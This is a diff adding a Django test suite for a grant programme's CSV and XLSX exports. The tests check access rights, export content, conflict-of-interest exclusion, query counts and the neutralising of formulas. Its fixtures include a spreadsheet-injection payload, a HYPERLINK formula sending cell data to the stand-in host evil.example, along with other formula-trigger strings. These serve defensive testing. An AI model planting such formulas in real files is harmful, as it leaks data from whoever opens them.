@@ -1,0 +1,399 @@
+"""The CSV and XLSX exports: who may download them, what they contain, formulas neutralised,
+conflicts of interest left out, and a number of queries that does not grow with the rows."""
+import csv
+import io
+from datetime import timedelta
+from decimal import Decimal
+
+import openpyxl
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import timezone
+
+from calls import decisions, evaluation, submission
+from calls.models import ApplicationStatus, StageKind
+from governance import voting
+from governance.models import Committee, CommitteeCode
+from pepr.exports import EXPORTS, neutralise
+from pepr.models import Axis
+from projects import services as project_services
+from projects.models import FundedProject, PriorityProject
+from tests.factories import (ApplicationFactory, OrganisationFactory, PartnerFactory,
+                             UserFactory, make_call, member_of)
+from tests.pdfs import pdf_upload
+
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Open")'
+ROLES_DENIED = ["applicant", "reviewer", "ccs_member"]
+ROLES_ALLOWED = ["pilot", "anr_officer", "administrator"]
+FORMATS = ["csv", "xlsx"]
+
+
+# --- Arrangement, shared with test_api ---
+
+def submitted_application(stage, coordinator, *, title="Vecteurs AAV ciblés", acronym="AAVCIB",
+                          partners=None, budget=500_000):
+    """An application sent through the services, as an applicant would."""
+    application = submission.start_application(stage, by=coordinator)
+    submission.save_draft(application, by=coordinator, data={
+        "title": title, "acronym": acronym, "summary_fr": "Résumé.", "summary_en": "Summary.",
+        "keywords": "AAV", "requested_budget_eur": budget, "axis": Axis.objects.get(number=2),
+    }, partners=partners or [{
+        "organisation": None, "laboratory": "Lab A", "rnsr": "", "lead_name": "Ada",
+        "lead_email": "ada@example.org", "role": "coordinator"}])
+    for requirement in stage.document_requirements.all():
+        submission.upload_document(application, requirement, pdf_upload(1), by=coordinator)
+    return submission.submit(application, by=coordinator)[0]
+
+
+def review(application, reviewer, *, by, values, recommendation="support"):
+    """A submitted review with `values` given to the stage's criteria in order."""
+    assignment = evaluation.assign(application, reviewer, by=by)
+    evaluation.sign_declaration(application.stage.call, reviewer=reviewer)
+    criteria = list(application.stage.criteria.order_by("position"))
+    evaluation.save_review(assignment, by=reviewer, recommendation=recommendation,
+                           scores={c.pk: (v, "") for c, v in zip(criteria, values)})
+    return evaluation.submit_review(assignment, by=reviewer)
+
+
+def many_applications(count, *, by):
+    """`count` submitted applications of one call, each with two partners, a submitted review,
+    a place on a session's agenda, a decision and a followed project."""
+    stage = make_call().stages.get()
+    reviewer = UserFactory()
+    session = voting.create_session(
+        committee=Committee.objects.get(code=CommitteeCode.CCS), title="Séance",
+        held_at=timezone.now(), by=by, stage=stage)
+    applications = []
+    for _ in range(count):
+        application = ApplicationFactory(stage=stage, status=ApplicationStatus.SUBMITTED,
+                                         version=1, submitted_at=timezone.now(),
+                                         requested_budget_eur=100_000)
+        PartnerFactory.create_batch(2, application=application)
+        review(application, reviewer, by=by, values=["A", "B"])
+        applications.append(application)
+    voting.add_to_agenda(session, applications, motion=ApplicationStatus.SELECTED, by=by)
+    for application in applications:
+        decisions.decide(application, ApplicationStatus.SELECTED, by=by)
+        # Straight to the table: the follow-up of a selected letter is not what is measured here.
+        FundedProject.objects.create(application=application, acronym=application.acronym,
+                                     title=application.title, coordinator=application.coordinator,
+                                     axis=application.axis, budget_eur=100_000)
+    return stage, applications
+
+
+# --- Reading the files ---
+
+def url(name, fmt, **query):
+    path = reverse("exports:download", args=[name, fmt])
+    return path + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")
+
+
+def download(client, name, fmt, **query):
+    response = client.get(url(name, fmt, **query))
+    assert response.status_code == 200, response
+    assert response.streaming  # never built in memory as one string
+    body = b"".join(response.streaming_content)
+    if fmt == "csv":
+        assert body.startswith(b"\xef\xbb\xbf")  # the BOM, for Excel
+        assert response["Content-Type"] == "text/csv; charset=utf-8"
+        return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+    assert response["Content-Type"].startswith(
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
+    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
+    return [list(row) for row in sheet.iter_rows(values_only=True)]
+
+
+def as_csv(value):
+    """What the CSV holds for a value the XLSX holds typed."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    return str(value)
+
+
+def paris(moment, fmt):
+    local = timezone.localtime(moment).replace(tzinfo=None, microsecond=0)
+    return local.strftime("%Y-%m-%d %H:%M:%S") if fmt == "csv" else local
+
+
+def same_moment(cell, moment):
+    """XLSX keeps times to the millisecond: compare to the second."""
+    return abs(cell - timezone.localtime(moment).replace(tzinfo=None)) < timedelta(seconds=1)
+
+
+# --- Access ---
+
+def all_urls():
+    return [reverse("exports:index")] + [url(name, fmt) for name in EXPORTS for fmt in FORMATS]
+
+
+def test_anonymous_visitors_are_sent_to_sign_in(client, db):
+    for address in all_urls():
+        response = client.get(address)
+        assert response.status_code == 302, address
+        assert response["Location"].startswith(reverse("account_login"))
+
+
+@pytest.mark.parametrize("role", ROLES_DENIED)
+def test_only_programme_staff_reach_the_exports(client, db, request, role):
+    client.force_login(request.getfixturevalue(role))
+    for address in all_urls():
+        assert client.get(address).status_code == 403, address
+
+
+@pytest.mark.parametrize("role", ROLES_ALLOWED)
+def test_staff_download_every_export(client, db, request, role):
+    """Pilots, ANR officers and superusers."""
+    client.force_login(request.getfixturevalue(role))
+    for address in all_urls():
+        response = client.get(address)
+        assert response.status_code == 200, address
+        if address != reverse("exports:index"):
+            assert "attachment" in response["Content-Disposition"]
+            assert "no-store" in response["Cache-Control"]  # personal data stays off caches
+            b"".join(response.streaming_content)
+
+
+def test_the_index_lists_every_export_with_the_chosen_call(client, pilot):
+    call = make_call(code="aap-index")
+    stage = call.stages.get()
+    client.force_login(pilot)
+    html = client.get(reverse("exports:index"), {"call": call.pk}).content.decode()
+    for name in EXPORTS:
+        for fmt in FORMATS:
+            assert f'href="{url(name, fmt)}?call={call.pk}"' in html
+    assert f'<option value="{call.pk}" selected>' in html
+    assert f'<option value="{stage.pk}">' in html
+
+
+def test_a_filter_that_is_not_an_id_is_refused(client, pilot):
+    client.force_login(pilot)
+    assert client.get(url("applications", "csv", call="abc")).status_code == 400
+    assert client.get(url("applications", "csv", stage="-1")).status_code == 400
+    assert client.get("/exports/unknown.csv").status_code == 404
+    assert client.get("/exports/applications.pdf").status_code == 404
+
+
+# --- Content ---
+
+@pytest.fixture
+def evaluated(db, applicant, pilot, reviewer, ccs_member):
+    """One call with an application carrying formula-like texts, two partners, a submitted
+    review and a pending one, a closed ballot and its decision; and an application of another
+    call that a call filter leaves out."""
+    stage = make_call(code="aap-exports").stages.get()
+    application = submitted_application(
+        stage, applicant, title=HOSTILE_TITLE, acronym="+1", budget=750_000, partners=[
+            {"organisation": applicant.organisation, "laboratory": "-2+3", "rnsr": "",
+             "lead_name": "Ada Lovelace", "lead_email": "ada@example.org",
+             "role": "coordinator"},
+            {"organisation": None, "laboratory": "@SUM(A1:A9)", "rnsr": "200012345X",
+             "lead_name": "Rosalind Franklin", "lead_email": "rf@example.org",
+             "role": "hospital"},
+        ])
+    review(application, reviewer, by=pilot, values=["A", "C"], recommendation="reservations")
+    pending = UserFactory(first_name="Grace", last_name="Hopper")
+    evaluation.assign(application, pending, role="rapporteur", by=pilot)
+    session = voting.create_session(
+        committee=Committee.objects.get(code=CommitteeCode.CCS), title="=Séance CCS",
+        held_at=timezone.now(), by=pilot, stage=stage)
+    voting.set_attendance(session, present_ids=[ccs_member.pk], by=pilot)
+    [item] = voting.add_to_agenda(session, [application], motion=ApplicationStatus.SELECTED,
+                                  by=pilot)
+    voting.open_ballot(item, by=pilot)
+    voting.cast_vote(item, voter=ccs_member, choice="for")
+    item = voting.close_ballot(item, by=pilot)
+    decision = decisions.decide_from_ballot(item, by=pilot)
+    other = ApplicationFactory(title="Autre appel")
+    application.refresh_from_db()
+    return {"stage": stage, "call": stage.call, "application": application, "other": other,
+            "pending": pending, "item": item, "decision": decision}
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_applications_export_holds_the_arranged_data_neutralised(client, pilot, applicant,
+                                                                evaluated, fmt):
+    application = evaluated["application"]
+    pilot.language = "en"  # headers in the reader's language
+    pilot.save()
+    client.force_login(pilot)
+    header, *rows = download(client, "applications", fmt, call=evaluated["call"].pk)
+    assert header[:2] == ["Reference", "Call"] and len(header) == 15
+    assert rows == [[
+        application.reference, "aap-exports", 1 if fmt == "xlsx" else "1", "loi", "selected",
+        "'" + HOSTILE_TITLE, "'+1", 2 if fmt == "xlsx" else "2",
+        applicant.get_full_name(), "applicant@example.org", applicant.organisation.name,
+        750_000 if fmt == "xlsx" else "750000", rows[0][12],
+        1 if fmt == "xlsx" else "1", False if fmt == "xlsx" else "false",
+    ]]
+    if fmt == "csv":
+        assert rows[0][12] == paris(application.submitted_at, "csv")
+    else:
+        assert same_moment(rows[0][12], application.submitted_at)
+    everything = download(client, "applications", fmt)[1:]
+    assert {row[0] for row in everything} == {application.reference,
+                                             evaluated["other"].reference}
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_partners_export_neutralises_laboratories_but_not_numbers(client, pilot, applicant,
+                                                                 evaluated, fmt):
+    reference = evaluated["application"].reference
+    client.force_login(pilot)
+    _header, *rows = download(client, "partners", fmt, stage=evaluated["stage"].pk)
+    number = (lambda n: n) if fmt == "xlsx" else str
+    assert rows == [
+        [reference, "aap-exports", number(1), number(0), applicant.organisation.name, "'-2+3",
+         None if fmt == "xlsx" else "", "Ada Lovelace", "ada@example.org", "coordinator"],
+        [reference, "aap-exports", number(1), number(1), None if fmt == "xlsx" else "",
+         "'@SUM(A1:A9)", "200012345X", "Rosalind Franklin", "rf@example.org", "hospital"],
+    ]
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_reviews_export_has_one_column_per_criterion(client, pilot, reviewer, evaluated, fmt):
+    application = evaluated["application"]
+    pilot.language = "en"
+    pilot.save()
+    client.force_login(pilot)
+    header, *rows = download(client, "reviews", fmt, call=evaluated["call"].pk)
+    assert header[-2:] == ["Criterion 1", "Criterion 2"]  # a letter of intent has two criteria
+    submitted_at = application.assignments.get(reviewer=reviewer).review.submitted_at
+    if fmt == "xlsx":
+        assert rows[0][8] == Decimal("2") and same_moment(rows[0][9], submitted_at)
+        rows[0][9] = None
+    assert rows == [
+        [application.reference, "aap-exports", as_csv(1) if fmt == "csv" else 1,
+         reviewer.get_full_name(), reviewer.email, "external", "submitted", "reservations",
+         "2.00" if fmt == "csv" else Decimal("2"),
+         paris(submitted_at, "csv") if fmt == "csv" else None, "A", "C"],
+        [application.reference, "aap-exports", as_csv(1) if fmt == "csv" else 1,
+         "Grace Hopper", evaluated["pending"].email, "rapporteur",
+         *([""] * 6 if fmt == "csv" else [None, None, None, None, None, None])],
+    ]
+
+
+def test_point_scores_are_numbers(client, pilot, applicant, reviewer):
+    stage = make_call(code="aap-points").stages.get()
+    stage.review_scale = "0-5"
+    stage.save()
+    application = submitted_application(stage, applicant)
+    review(application, reviewer, by=pilot, values=["5", "2"])
+    client.force_login(pilot)
+    [_header, row] = download(client, "reviews", "xlsx", stage=stage.pk)
+    assert row[-2:] == [5, 2] and row[8] == Decimal("3.5")
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_votes_and_decisions_exports(client, pilot, evaluated, fmt):
+    item, decision = evaluated["item"], evaluated["decision"]
+    reference = evaluated["application"].reference
+    client.force_login(pilot)
+    number = (lambda n: n) if fmt == "xlsx" else as_csv
+    [_header, vote] = download(client, "votes", fmt, call=evaluated["call"].pk)
+    moment = vote[1] if fmt == "csv" else None
+    assert vote[:1] + vote[2:12] == [
+        "'=Séance CCS", "ccs", reference, "aap-exports", "selected", "closed",
+        number(1), number(1), number(0), number(0), "adopted"]
+    if fmt == "csv":
+        assert moment == paris(item.session.held_at, "csv")
+        assert vote[12] == paris(item.closed_at, "csv")
+    else:
+        assert same_moment(vote[1], item.session.held_at) and same_moment(vote[12], item.closed_at)
+    [_header, row] = download(client, "decisions", fmt, call=evaluated["call"].pk)
+    assert row[:5] == [reference, "aap-exports", number(1), "selected", pilot.get_full_name()]
+    assert row[6:] == ["'=Séance CCS", decision.rationale]
+    if fmt == "csv":
+        assert row[5] == paris(decision.decided_at, "csv")
+    else:
+        assert same_moment(row[5], decision.decided_at)
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_projects_export_lists_funded_then_priority_projects(client, pilot, applicant, fmt):
+    now = timezone.now()
+    stage = make_call(code="aap-full", stages=[
+        (StageKind.FULL_PROPOSAL, now - timedelta(days=1), now + timedelta(days=5))]).stages.get()
+    application = submitted_application(stage, applicant, acronym="FUND", budget=900_000)
+    decisions.decide(application, ApplicationStatus.RECOMMENDED, by=pilot)
+    decisions.decide(application, ApplicationStatus.FUNDED, by=member_of(CommitteeCode.DIRECTEUR))
+    application.refresh_from_db()
+    project_services.create_from_application(application, by=pilot)
+    slot = PriorityProject.objects.get(axis__number=1, position=2)
+    slot.acronym, slot.title_fr, slot.title_en, slot.budget_eur = "PRIO", "Titre", "Title", 4_000
+    slot.start_date = now.date()
+    slot.save()
+    client.force_login(pilot)
+    number = (lambda n: n) if fmt == "xlsx" else as_csv
+    empty = None if fmt == "xlsx" else ""
+    _header, *rows = download(client, "projects", fmt)
+    assert len(rows) == 1 + 12
+    assert rows[0] == ["funded", application.reference, "aap-full", "FUND", application.title,
+                       number(2), applicant.get_full_name(), applicant.email, number(900_000),
+                       empty, empty, number(False)]
+    prio = next(row for row in rows if row[1] == "P1.2")
+    start = now.date().isoformat() if fmt == "csv" else prio[9]
+    assert prio == ["priority", "P1.2", empty, "PRIO", "Titre", number(1), empty, empty,
+                    number(4_000), start, empty, number(False)]
+    if fmt == "xlsx":
+        assert start.date() == now.date()
+    # The priority projects belong to no call: a call filter leaves them out.
+    filtered = download(client, "projects", fmt, call=stage.call_id)[1:]
+    assert [row[1] for row in filtered] == [application.reference]
+
+
+def test_neutralise_covers_every_formula_trigger():
+    for text in ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]:
+        assert neutralise(text) == "'" + text
+    assert neutralise("Projet = vecteur") == "Projet = vecteur"
+
+
+def test_control_characters_do_not_break_the_workbook(client, pilot, applicant):
+    stage = make_call(code="aap-ctrl").stages.get()
+    submitted_application(stage, applicant, title="\x01=1+1 Vecteurs\x0b")
+    client.force_login(pilot)
+    [_header, row] = download(client, "applications", "xlsx", call=stage.call_id)
+    assert row[5] == "'=1+1 Vecteurs"
+
+
+# --- Conflicts of interest ---
+
+def test_applications_the_reader_is_conflicted_with_are_left_out(client, applicant,
+                                                                 evaluated):
+    application = evaluated["application"]
+    declared = member_of(CommitteeCode.PILOTAGE)
+    evaluation.declare_conflict(application, person=declared, reason="Co-author")
+    colleague = member_of(CommitteeCode.PILOTAGE, organisation=applicant.organisation)
+    stranger = member_of(CommitteeCode.PILOTAGE, organisation=OrganisationFactory())
+    for pilot, sees in [(declared, False), (colleague, False), (stranger, True)]:
+        client.force_login(pilot)
+        for name in ["applications", "partners", "reviews", "votes", "decisions"]:
+            rows = download(client, name, "csv", call=evaluated["call"].pk)[1:]
+            assert bool(rows) is sees, (pilot, name)
+
+
+# --- Queries do not grow with the rows ---
+
+def queries_of(client, address):
+    with CaptureQueriesContext(connection) as queries:
+        response = client.get(address)
+        assert response.status_code == 200
+        body = b"".join(response.streaming_content)
+    return len(queries), body
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_queries_do_not_grow_with_the_number_of_rows(client, pilot, fmt):
+    small_stage, _ = many_applications(3, by=pilot)
+    large_stage, _ = many_applications(30, by=pilot)
+    client.force_login(pilot)
+    for name in EXPORTS:
+        few, few_body = queries_of(client, url(name, fmt, stage=small_stage.pk))
+        many, many_body = queries_of(client, url(name, fmt, stage=large_stage.pk))
+        assert few == many, name
+        assert len(many_body) > len(few_body), name  # the rows really were read
+    rows = download(client, "partners", fmt, stage=large_stage.pk)[1:]
+    assert len(rows) == 60
